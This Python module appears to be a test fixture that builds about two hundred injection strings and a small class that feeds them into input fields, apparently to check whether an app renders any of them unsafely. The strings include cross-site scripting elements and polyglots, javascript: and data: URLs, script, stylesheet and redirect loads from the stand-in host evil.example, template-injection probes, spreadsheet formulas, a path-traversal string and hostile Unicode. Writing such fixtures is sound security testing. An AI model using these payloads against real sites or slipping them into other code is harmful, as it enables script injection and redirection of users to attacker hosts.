"""Two hundred texts that mean something to a browser, to Markdown, to a template or to a spreadsheet.
Whatever runs of them adds to `window.__ran`."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass, field
from itertools import product
from typing import Final

RAN: Final = "__ran.push(1)"
_BREAKS_OUT: Final = ("", '">', "'>", "--></textarea></title></style>", "</script>")
_ELEMENTS: Final = (
    f"<script>{RAN}</script>",
    f"<ScRiPt>{RAN}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RAN}>",
    f"<img/src/onerror={RAN}>",
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<body onload={RAN}>",
    f"<input autofocus onfocus={RAN}>",
    f"<details open ontoggle={RAN}>",
    f"<video><source onerror={RAN}></video>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RAN}></iframe>",
    f"<object data=javascript:{RAN}></object>",
    f"<a href=javascript:{RAN}>x</a>",
    f"<math><a xlink:href=javascript:{RAN}>x</a></math>",
    f"<form><button formaction=javascript:{RAN}>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<base href=//evil.example/>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'>",
    f"<template><img src=x onerror={RAN}></template>",
    f"<marquee onstart={RAN}>x</marquee>",
)
_ATTRIBUTES: Final = tuple(
    f"{quote}{event}={quote}{RAN}{quote}"
    for quote, event in product(('" ', "' ", "` "), ("onmouseover", "autofocus onfocus", "style"))
)
MARKDOWN: Final = (
    "# a heading",
    "1. a list",
    "- a list",
    "> a quote",
    "***",
    "===",
    "**bold** _soft_ ~~gone~~",
    "`code`",
    "```\ncode\n```",
    "[words](javascript:__ran.push(1))",
    "[words](//evil.example)",
    "[words][1]",
    "![picture](//evil.example/x.png)",
    '![x](x "onerror=__ran.push(1)")',
    "<javascript:__ran.push(1)>",
    "<https://evil.example>",
    "https://evil.example/x",
    "www.evil.example",
    "mail@evil.example",
    "|a|b|\n|-|-|\n|c|d|",
    "[^1]: a note",
    "$x^2$ and $$\\href{javascript:__ran.push(1)}{x}$$",
    "$\\includegraphics{//evil.example/x.png}$",
    ":smile: :+1: :streamlit:",
    ":material/face: :material_face:",
    ":red[red] :red-background[red] :small[small]",
    ":blue-badge[badge]",
    ":help[?]",
    "a -> b <- c -- d >= e",
    "&lt;script&gt; &#60;b&#62; &amp;",
    "\\<b\\>",
    "a  \nb\\\nc",
    "<!-- hidden --> seen",
    "<b>bold</b><br>",
)
_TEMPLATES: Final = (
    "{{7*7}}",
    "{{ self }}",
    "{% raw %}",
    "{#x#}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "%(name)s",
    "{0}",
    "{name!r}",
    "{{constructor.constructor('__ran.push(1)')()}}",
    "[[${7*7}]]",
    "%{7*7}",
    "@{x}",
    "__proto__",
)
_ADDRESSES: Final = (
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}",
    f"java\tscript:{RAN}",
    f"data:text/html,<script>{RAN}</script>",
    f"vbscript:{RAN}",
    "//evil.example",
    "\\\\evil.example\\x",
    "../../etc/passwd",
    "?a=b&c=d#e",
)
_CELLS: Final = ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", '=HYPERLINK("//evil.example")')
_SIGNS: Final = (
    "a\x00b",
    "\u202eevil\u202c",
    "\u2066left\u2069",
    "\ud800",
    "\ufeffmark",
    "e\u0301\u0301\u0301",
    "\u200bnothing",
    "\u2028line\u2029",
    "W" * 150,
    "\x1b[31mred",
    "BEGIN:VEVENT\r\nEND:VEVENT",
    '\\n\\,;:"',
)
_POLYGLOTS: Final = (
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RAN} )//%0D%0A//"
    f"</stYle/</titLe/</scRipt/--!><sVg/oNloAd={RAN}//>",
    f"\"'--></style></script><svg onload={RAN}>${{{RAN}}}{{{{{RAN}}}}}`{RAN}`",
    f"';{RAN}//\\';{RAN}//\";{RAN}//\\\";{RAN}//--></SCRIPT>\">'><SCRIPT>{RAN}</SCRIPT>",
)
PAYLOADS: Final = (
    *(before + element for before, element in product(_BREAKS_OUT, _ELEMENTS)),
    *_ATTRIBUTES,
    *MARKDOWN,
    *_TEMPLATES,
    *_ADDRESSES,
    *_CELLS,
    *_SIGNS,
    *_POLYGLOTS,
)


@dataclass
class Mouth:
    """Says what goes into a field: as many payloads as fit, from a certain one on."""

    start: int
    payloads: Iterable[str] = PAYLOADS
    said: list[str] = field(default_factory=list)

    def line(self, limit: int = 200) -> str:
        """A text of at most so many characters."""
        own = list(self.payloads)
        text = own[self.start % len(own)]
        for step in range(1, len(own)):
            longer = f"{text} {own[(self.start + step) % len(own)]}"
            if len(longer) > limit:
                break
            text = longer
        self.said.append(text[:limit])
        return text[:limit]

    def paragraph(self) -> str:
        """A longer one."""
        return self.line(900)


INNOCENT: Final = ("Harbour", "letters", "before", "the", "hearing") * 40
